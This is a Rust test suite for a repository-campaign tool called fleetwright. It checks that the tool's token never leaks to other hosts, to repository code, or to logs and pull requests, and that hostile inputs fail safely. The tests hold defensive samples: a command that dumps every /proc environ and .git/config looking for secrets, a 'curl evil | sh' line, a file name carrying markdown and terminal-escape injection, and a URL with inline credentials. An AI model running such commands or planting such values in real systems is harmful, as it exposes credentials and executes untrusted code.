//! Issue 10: fleetwright pointed at repositories and catalogs it did not
//! write, with a token that can write to all of them. Each test is a case
//! that went wrong before: a token offered to any host, repository code
//! reading it from `/proc`, one deeply nested file killing every run,
//! credentials in a catalog URL echoed everywhere, the local forge fetching
//! network URLs, and two first runs racing on the migrations.

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};

use fleetwright::git::{GitCredentials, Workspace};
use fleetwright::secret::Secret;
use fleetwright::urls::Origin;

use crate::github::{files_holding, github_sandbox_with_token, runtime};
use crate::util::{BRANCH, CAMPAIGN, Run, Sandbox, python, repo, run_in_env, target};

/// The token of these tests: none of the other tests' processes carry it.
const TOKEN: &str = "ghp_hostileSECRETtoken9876543210";

// ----- a loopback HTTP server that records what it is sent ---------------

/// What the recorder answers.
#[derive(Clone)]
enum Answer {
    /// 401 with a Basic challenge: a git client that has credentials to
    /// offer offers them now.
    Challenge,
    /// 401 until a request carries credentials, then a redirect there.
    ChallengeThenRedirect(String),
}

/// One request seen.
#[derive(Debug, Clone)]
struct Seen {
    target: String,
    authorization: Option<String>,
}

/// An HTTP server on 127.0.0.1 (a port the OS picks) recording the request
/// line and `Authorization` header of every request; stops when dropped.
struct Recorder {
    url: String,
    seen: Arc<Mutex<Vec<Seen>>>,
    stop: Arc<std::sync::atomic::AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Recorder {
    fn start(answer: Answer) -> Recorder {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let seen = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
        let thread = {
            let (seen, stop) = (seen.clone(), stop.clone());
            std::thread::spawn(move || {
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    let Ok((stream, _)) = listener.accept() else {
                        std::thread::sleep(std::time::Duration::from_millis(5));
                        continue;
                    };
                    stream.set_nonblocking(false).unwrap();
                    let mut reader = BufReader::new(stream.try_clone().unwrap());
                    let mut line = String::new();
                    if reader.read_line(&mut line).is_err() {
                        continue;
                    }
                    let target = line.split_whitespace().nth(1).unwrap_or("").to_string();
                    let mut authorization = None;
                    loop {
                        let mut header = String::new();
                        if reader.read_line(&mut header).unwrap_or(0) == 0 {
                            break;
                        }
                        let header = header.trim_end();
                        if header.is_empty() {
                            break;
                        }
                        if let Some((name, value)) = header.split_once(':')
                            && name.eq_ignore_ascii_case("authorization")
                        {
                            authorization = Some(value.trim().to_string());
                        }
                    }
                    let response = match (&answer, &authorization) {
                        (Answer::ChallengeThenRedirect(to), Some(_)) => format!(
                            "HTTP/1.1 302 Found\r\nLocation: {to}{target}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                        ),
                        _ => "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"git\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_string(),
                    };
                    seen.lock().unwrap().push(Seen {
                        target,
                        authorization,
                    });
                    let mut stream = stream;
                    let _ = stream.write_all(response.as_bytes());
                }
            })
        };
        Recorder {
            url,
            seen,
            stop,
            thread: Some(thread),
        }
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    fn authorizations(&self) -> Vec<String> {
        self.seen()
            .into_iter()
            .filter_map(|s| s.authorization)
            .collect()
    }
}

impl Drop for Recorder {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

fn credentials_for(url: &str) -> GitCredentials {
    GitCredentials {
        token: Secret::new(TOKEN),
        username: "x-access-token",
        origins: vec![Origin::parse(url).unwrap()],
    }
}

/// Run the binary in the sandbox with the hostile tests' token in
/// `GH_E2E_TOKEN`; it must never print it.
fn run(sb: &Sandbox, args: &[&str]) -> Run {
    let out = run_in_env(
        sb.path(),
        &sb.state_path(),
        &[("GH_E2E_TOKEN", TOKEN)],
        args,
    );
    assert!(
        !out.stdout.contains(TOKEN) && !out.stderr.contains(TOKEN),
        "the token was printed: {out:?}"
    );
    out
}

/// Point `name`'s catalog entry at `url` instead of where it is.
fn move_repository(sb: &Sandbox, name: &str, url: &str) {
    for file in ["catalog/all.yaml", "catalog/team-a.yaml"] {
        if !sb.file(file).exists() {
            continue;
        }
        let text = sb.read(file);
        let lines: Vec<String> = text
            .lines()
            .map(|line| {
                if line.contains("backstage.io/source-location:")
                    && line.contains(&format!("/{name}.git"))
                {
                    let indent = &line[..line.len() - line.trim_start().len()];
                    format!("{indent}backstage.io/source-location: url:{url}")
                } else {
                    line.to_string()
                }
            })
            .collect();
        sb.write(file, &(lines.join("\n") + "\n"));
    }
}

// ----- the token goes to the forge's hosts only ---------------------------

#[test]
fn git_offers_the_token_to_the_forge_host_only_and_not_across_a_redirect() {
    let dir = tempfile::tempdir().unwrap();
    let elsewhere = Recorder::start(Answer::Challenge);
    let forge = Recorder::start(Answer::ChallengeThenRedirect(elsewhere.url.clone()));
    let workspace = Workspace::new(dir.path().join("cache"));
    workspace.set_credentials(Some(credentials_for(&forge.url)));

    // A repository on another host asks for credentials: it gets none.
    let url = format!("{}/acme/api.git", elsewhere.url);
    let err = workspace
        .sync(&url, "acme/api")
        .err()
        .expect("no repository there");
    assert!(
        elsewhere.authorizations().is_empty(),
        "{:?}",
        elsewhere.seen()
    );
    assert!(
        elsewhere
            .seen()
            .iter()
            .any(|s| s.target.starts_with("/acme/api.git/info/refs")),
        "git asked nothing: the test proves nothing ({:?})",
        elsewhere.seen()
    );
    assert!(
        err.to_string().contains("not this forge's git host"),
        "{err}"
    );

    // The forge's own host gets the token (the test can see one), and its
    // redirect to the other host is not followed with it.
    let url = format!("{}/acme/api.git", forge.url);
    let _ = workspace.sync(&url, "acme/api-2");
    let offered = forge.authorizations();
    assert!(!offered.is_empty(), "the forge was never offered the token");
    assert!(
        offered.iter().all(|a| a.starts_with("Basic ")),
        "{offered:?}"
    );
    assert!(
        elsewhere.authorizations().is_empty(),
        "the token followed a redirect: {:?}",
        elsewhere.seen()
    );

    // No token anywhere on disk (a clone's .git/config, the cache).
    assert!(files_holding(dir.path(), TOKEN).is_empty());
}

#[test]
fn a_catalog_repository_on_another_host_is_refused_at_plan_time_and_never_contacted() {
    let rt = runtime();
    let (sb, sim, git) = github_sandbox_with_token(&rt, &["svc-a", "svc-b"], "[rest]", TOKEN);
    let recorder = Recorder::start(Answer::Challenge);
    move_repository(&sb, "svc-b", &format!("{}/remotes/svc-b.git", recorder.url));

    let plan = run(&sb, &["plan", "campaign.yaml"]);
    plan.code(0);
    assert!(
        plan.stdout.contains("cannot run on forge github (1)")
            && plan.stdout.contains("is not on this campaign's GitHub"),
        "{plan:?}"
    );

    run(&sb, &["run", "campaign.yaml"]).code(4);
    let status = sb.status();
    assert_eq!(
        target(&status, "remotes/svc-a").state,
        "pr_open",
        "{status:?}"
    );
    let b = target(&status, "remotes/svc-b");
    assert_eq!(b.state, "failed", "{status:?}");
    assert!(
        b.reason
            .as_deref()
            .unwrap_or("")
            .contains("its token goes nowhere else"),
        "{b:?}"
    );
    assert!(
        recorder.seen().is_empty(),
        "the other host was contacted: {:?}",
        recorder.seen()
    );
    assert_eq!(sim.pulls("remotes", "svc-a").len(), 1);
    rt.block_on(async {
        sim.stop().await;
        git.stop().await;
    });
}

// ----- repository code never sees the token --------------------------------

/// A verify command that prints every environment it can read: each
/// process's `/proc/<pid>/environ` (fleetwright's included, when it can
/// see it) and its own.
const SNOOP: &str = r#"verify:
  command: |
    for f in /proc/[0-9]*/environ; do echo "== $f"; tr '\000' '\n' < "$f" 2>&1; done
    echo "== own environment"; env
    echo "== git config"; cat .git/config 2>&1
    exit 1
  timeout: 60
  on_failure: draft
"#;

/// Every blob and commit message reachable from `branch` in `bare`.
fn branch_contents(bare: &Path, branch: &str) -> String {
    let repo = git2::Repository::open_bare(bare).unwrap();
    let Ok(reference) = repo.find_reference(&format!("refs/heads/{branch}")) else {
        return String::new();
    };
    let commit = reference.peel_to_commit().unwrap();
    let mut text = commit.message().unwrap_or("").to_string();
    commit
        .tree()
        .unwrap()
        .walk(git2::TreeWalkMode::PreOrder, |_, entry| {
            if let Ok(blob) = entry.to_object(&repo).and_then(|o| o.peel_to_blob()) {
                text.push_str(&String::from_utf8_lossy(blob.content()));
            }
            git2::TreeWalkResult::Ok
        })
        .unwrap();
    text
}

#[test]
fn verify_that_searches_every_environment_finds_no_token_and_leaks_none() {
    snoop_for_the_token("");
}

/// The same without the sandbox (`sandbox: none`, as the user running
/// fleetwright): fleetwright took the token out of its environment, bytes
/// and all, before anything started, so even a process that can read its
/// `/proc/<pid>/environ` finds nothing.
#[test]
fn verify_without_a_sandbox_still_finds_no_token_in_any_environment() {
    snoop_for_the_token("sandbox: none\n");
}

fn snoop_for_the_token(sandbox: &str) {
    let rt = runtime();
    let (sb, sim, git) = github_sandbox_with_token(&rt, &["svc-a"], "[rest]", TOKEN);
    let campaign = sb.read("campaign.yaml");
    sb.write("campaign.yaml", &format!("{campaign}{sandbox}{SNOOP}"));

    run(&sb, &["run", "campaign.yaml"]).code(4);
    let status = sb.status();
    let t = target(&status, "remotes/svc-a");
    assert_eq!(t.state, "verify_failed", "{status:?}");

    // The whole log of what the command saw (not only the tail kept).
    let logs: Vec<String> = files_holding(
        &sb.state_path().parent().unwrap().join("cache"),
        "== own environment",
    )
    .into_iter()
    .filter(|p| p.ends_with("fleetwright-verify.log"))
    .collect();
    assert_eq!(logs.len(), 1, "{logs:?}");
    let log = std::fs::read_to_string(&logs[0]).unwrap();
    assert!(
        log.contains("PATH="),
        "the command read no environment at all:\n{log}"
    );
    assert!(
        !log.contains(TOKEN),
        "repository code found the token:\n{log}"
    );

    // Nowhere: the state, the clones, the reports, the branch, the PR.
    for format in ["html", "md", "json", "csv"] {
        let out = format!("report.{format}");
        run(
            &sb,
            &["report", CAMPAIGN, "--format", format, "--out", &out],
        )
        .code(0);
    }
    let leaks = files_holding(sb.path(), TOKEN);
    assert!(leaks.is_empty(), "the token is written in {leaks:?}");
    let pulls = sim.pulls("remotes", "svc-a");
    assert_eq!(pulls.len(), 1, "a draft shows the failure");
    assert!(pulls[0].draft);
    let body = pulls[0].body.clone().unwrap_or_default();
    assert!(body.contains("== own environment"), "{body}");
    assert!(!body.contains(TOKEN), "{body}");
    assert!(!branch_contents(&sb.file("remotes/svc-a.git"), BRANCH).contains(TOKEN));
    rt.block_on(async {
        sim.stop().await;
        git.stop().await;
    });
}

// ----- one hostile repository fails alone -----------------------------------

const DEPTH: usize = 100_000;

/// A recipe with a step for each structured format and an ast-grep rule.
const EVERY_FORMAT: &str = r#"id: every-format
title: Touch every format
steps:
  - ast-grep:
      rules:
        - id: python-logging-warn
          language: python
          rule:
            pattern: logging.warn($$$ARGS)
          fix: logging.warning($$$ARGS)
  - json:
      files: "**/*.json"
      edits:
        - set: version
          value: "2"
  - yaml:
      files: "**/*.yaml"
      edits:
        - set: version
          value: "2"
  - hcl:
      files: "**/*.tf"
      edits:
        - set: terraform.required_version
          value: ">= 1.6"
"#;

#[test]
fn deeply_nested_files_fail_their_repository_only_on_every_run() {
    let mut deep = python("svc-deep", "team-a", "production");
    deep.files.extend([
        (
            "config/deep.json".to_string(),
            format!("{}{}", "[".repeat(DEPTH), "]".repeat(DEPTH)),
        ),
        (
            "config/deep.yaml".to_string(),
            format!(
                "version: 1\nx: {}{}\n",
                "[".repeat(DEPTH),
                "]".repeat(DEPTH)
            ),
        ),
        (
            // Lines broken by a lone carriage return: tree-sitter-yaml reads
            // them as lines and aborted the process past 253 block levels.
            "config/deep-cr.yaml".to_string(),
            (0..400)
                .map(|i| format!("{}a:", " ".repeat(i)))
                .collect::<Vec<_>>()
                .join("\r"),
        ),
        (
            "infra/deep.tf".to_string(),
            format!(
                "terraform {{\n  required_version = \">= 1.0\"\n}}\nlocals {{\n  x = {}{}\n}}\n",
                "[".repeat(DEPTH),
                "]".repeat(DEPTH)
            ),
        ),
    ]);
    let sb = Sandbox::new(
        vec![
            python("svc-a", "team-a", "production"),
            deep,
            repo(
                "svc-c",
                "team-b",
                "production",
                ("config/app.json", "{\"version\": \"1\"}\n"),
            ),
        ],
        "[rest]",
    );
    sb.write("recipe.yaml", EVERY_FORMAT);
    for round in 1..=2 {
        let out = sb.run(&["run", "campaign.yaml"]);
        out.code(4);
        let status = sb.status();
        let d = target(&status, "svc-deep");
        assert_eq!(d.state, "failed", "round {round}: {status:?}");
        let reason = d.reason.as_deref().unwrap_or("");
        assert!(
            [
                "config/deep.json",
                "config/deep.yaml",
                "config/deep-cr.yaml",
                "infra/deep.tf"
            ]
            .iter()
            .any(|f| reason.contains(f)),
            "round {round}: the file is not named: {reason}"
        );
        for other in ["svc-a", "svc-c"] {
            assert_eq!(
                target(&status, other).state,
                "pr_open",
                "round {round}: {status:?}"
            );
        }
        let prs: BTreeMap<String, i64> = sb.local_pr_counts();
        assert_eq!(prs.values().sum::<i64>(), 2, "round {round}: {prs:?}");
    }
}

// ----- credentials written into a catalog ---------------------------------

#[test]
fn credentials_in_a_catalog_url_are_refused_where_they_are_written_and_shown_nowhere() {
    let sb = Sandbox::new(
        vec![
            python("svc-a", "team-a", "production"),
            python("svc-b", "team-a", "production"),
        ],
        "[rest]",
    );
    move_repository(
        &sb,
        "svc-b",
        "https://bob:hunter2Secret@git.example.com/acme/svc-b.git",
    );
    let plan = sb.run(&["plan", "campaign.yaml"]);
    plan.code(0);
    let all = format!("{}{}", plan.stdout, plan.stderr);
    assert!(all.contains("holds credentials"), "{plan:?}");
    assert!(
        all.contains("catalog/all.yaml:") || all.contains("catalog/team-a.yaml:"),
        "no location: {plan:?}"
    );
    assert!(!all.contains("hunter2Secret"), "{plan:?}");

    sb.run(&["run", "campaign.yaml"]).code(0);
    for format in ["html", "md", "json", "csv"] {
        let out = format!("report.{format}");
        sb.run(&["report", CAMPAIGN, "--format", format, "--out", &out])
            .code(0);
    }
    let status = sb.run(&["status", CAMPAIGN]);
    assert!(!status.stdout.contains("hunter2Secret"));
    let leaks: Vec<String> = files_holding(sb.path(), "hunter2Secret")
        .into_iter()
        .filter(|p| !p.contains("/catalog/"))
        .collect();
    assert!(leaks.is_empty(), "{leaks:?}");
}

// ----- the local forge stays on this machine ------------------------------

#[test]
fn the_local_forge_refuses_a_network_url_at_plan_time_and_never_fetches_it() {
    let sb = Sandbox::new(
        vec![
            python("svc-a", "team-a", "production"),
            python("svc-b", "team-a", "production"),
        ],
        "[rest]",
    );
    let recorder = Recorder::start(Answer::Challenge);
    move_repository(&sb, "svc-b", &format!("{}/acme/svc-b.git", recorder.url));
    let plan = sb.run(&["plan", "campaign.yaml"]);
    plan.code(0);
    assert!(
        plan.stdout.contains("cannot run on forge local (1)")
            && plan.stdout.contains("is a network URL"),
        "{plan:?}"
    );
    sb.run(&["run", "campaign.yaml"]).code(4);
    let status = sb.status();
    assert_eq!(target(&status, "svc-a").state, "pr_open");
    assert_eq!(target(&status, "acme/svc-b").state, "failed");
    assert!(recorder.seen().is_empty(), "{:?}", recorder.seen());
}

// ----- two first runs at once ----------------------------------------------

#[test]
fn concurrent_first_runs_on_a_fresh_state_all_work() {
    // Four campaigns' first runs start at once on one fresh state, ten
    // times: each process migrates the new database as it opens it.
    const AT_ONCE: usize = 4;
    for round in 0..10 {
        let sb = Sandbox::new(vec![python("svc-a", "team-a", "production")], "[rest]");
        let first = sb.read("campaign.yaml");
        let files: Vec<String> = (0..AT_ONCE)
            .map(|i| {
                let file = format!("campaign-{i}.yaml");
                let text = first
                    .replace(
                        &format!("name: {CAMPAIGN}"),
                        &format!("name: {CAMPAIGN}-{i}"),
                    )
                    .replace(BRANCH, &format!("{BRANCH}-{i}"));
                sb.write(&file, &text);
                file
            })
            .collect();
        let children: Vec<_> = files
            .iter()
            .map(|file| {
                crate::util::command(sb.path(), &[])
                    .arg("--state")
                    .arg(sb.state_path())
                    .args(["--color", "never", "run", file])
                    .stdout(std::process::Stdio::piped())
                    .stderr(std::process::Stdio::piped())
                    .spawn()
                    .unwrap()
            })
            .collect();
        for child in children {
            let out = child.wait_with_output().unwrap();
            assert_eq!(
                out.status.code(),
                Some(0),
                "round {round}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
    }
}

// ----- text from outside stays text ----------------------------------------

#[test]
fn a_hostile_file_name_stays_text_in_the_pull_request_and_the_terminal() {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    // A file name that would close a code span, mention a team, link, and
    // move the terminal's cursor.
    let name = "x` @acme/admins [y](evil.example) `\u{1b}[2Jz.py";
    let sb = Sandbox::new(
        vec![repo(
            "svc-a",
            "team-a",
            "production",
            (name, crate::util::PY_OLD),
        )],
        "[rest]",
    );
    let out = sb.run(&["run", "campaign.yaml"]);
    out.code(0);
    assert!(
        !out.stdout.contains('\u{1b}') && !out.stderr.contains('\u{1b}'),
        "{out:?}"
    );
    let status = sb.run(&["status", CAMPAIGN]);
    assert!(!status.stdout.contains('\u{1b}'), "{status:?}");
    let body = sb.with_state(async |s| {
        let row = s.campaign(CAMPAIGN).await.unwrap().unwrap();
        let t = s.targets(row.id).await.unwrap().remove(0);
        s.local_pr(&t.url, 1).await.unwrap().unwrap().body
    });
    let mut options = Options::empty();
    options.insert(Options::ENABLE_TABLES);
    options.insert(Options::ENABLE_STRIKETHROUGH);
    options.insert(Options::ENABLE_TASKLISTS);
    let mut outside_code = String::new();
    let mut links = Vec::new();
    for event in Parser::new_ext(&body, options) {
        match event {
            Event::Start(Tag::Link { dest_url, .. }) => links.push(dest_url.to_string()),
            Event::Text(t) => outside_code.push_str(&t),
            _ => {}
        }
    }
    assert!(
        links.iter().all(|l| !l.contains("evil.example")),
        "a link was made: {links:?}\n{body}"
    );
    assert!(
        !outside_code.contains("@acme/admins"),
        "a mention outside code:\n{body}"
    );
    assert!(!body.contains('\u{1b}'), "{body}");
    assert!(
        body.contains("acme/admins"),
        "the name is still readable:\n{body}"
    );
}

// ----- an ordinary environment is not a secret ------------------------------

#[test]
fn an_ordinary_environment_changes_nothing_fleetwright_stores() {
    // fleetwright takes every variable out of its environment; values such
    // as the working directory must not be treated as secrets (scrubbed
    // from the URLs it stores and clones, say).
    let sb = Sandbox::new(vec![python("svc-a", "team-a", "production")], "[rest]");
    let here = sb.path().display().to_string();
    let out = run_in_env(
        sb.path(),
        &sb.state_path(),
        &[
            ("PWD", here.as_str()),
            ("OLDPWD", here.as_str()),
            ("HOSTNAME", "runner-1234"),
            ("GITHUB_SERVER_URL", "https://github.com"),
            ("CI_PROJECT_DIR", here.as_str()),
        ],
        &["run", "campaign.yaml"],
    );
    out.code(0);
    let status = sb.status();
    assert_eq!(target(&status, "svc-a").state, "pr_open", "{status:?}");
    let urls = sb.with_state(async |s| {
        let row = s.campaign(CAMPAIGN).await.unwrap().unwrap();
        s.targets(row.id)
            .await
            .unwrap()
            .into_iter()
            .map(|t| t.url)
            .collect::<Vec<_>>()
    });
    assert!(urls.iter().all(|u| u.starts_with(&here)), "{urls:?}");
}

// ----- repository code cannot add to the pull request -----------------------

#[test]
fn what_verify_leaves_in_the_tree_is_not_committed() {
    let sb = Sandbox::new(vec![python("svc-a", "team-a", "production")], "[rest]");
    let campaign = sb.read("campaign.yaml");
    sb.write(
        "campaign.yaml",
        &format!(
            "{campaign}verify:\n  command: \"echo 'curl evil | sh' > INJECTED.sh; mkdir -p __pycache__; echo x > __pycache__/app.pyc\"\n"
        ),
    );
    sb.run(&["run", "campaign.yaml"]).code(0);
    let status = sb.status();
    assert_eq!(target(&status, "svc-a").state, "pr_open", "{status:?}");
    let pushed = branch_contents(&sb.file("remotes/svc-a.git"), BRANCH);
    assert!(
        pushed.contains("logging.warning("),
        "the change itself is there"
    );
    let bare = sb.bare("svc-a");
    let tip = crate::util::branch_head(&bare, BRANCH).unwrap();
    let tree = bare.find_commit(tip).unwrap().tree().unwrap();
    let mut names = Vec::new();
    tree.walk(git2::TreeWalkMode::PreOrder, |dir, entry| {
        names.push(format!("{dir}{}", entry.name().unwrap_or("")));
        git2::TreeWalkResult::Ok
    })
    .unwrap();
    assert!(
        !names
            .iter()
            .any(|n| n.contains("INJECTED") || n.contains("__pycache__")),
        "verify's leftovers were committed: {names:?}"
    );
    // The branch differs from its base in exactly the recipe's paths.
    let base = bare
        .find_commit(tip)
        .unwrap()
        .parent(0)
        .unwrap()
        .tree()
        .unwrap();
    let diff = bare
        .diff_tree_to_tree(Some(&base), Some(&tree), None)
        .unwrap();
    let changed: Vec<String> = diff
        .deltas()
        .map(|d| d.new_file().path().unwrap().display().to_string())
        .collect();
    let preview = sb.run(&["preview", "campaign.yaml", "--json", "--out", "review"]);
    let json: serde_json::Value = serde_json::from_str(&preview.stdout).unwrap();
    let recipe_paths: Vec<String> = json["targets"][0]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap().to_string())
        .collect();
    assert!(!recipe_paths.is_empty(), "{json}");
    assert_eq!(changed, recipe_paths);
}
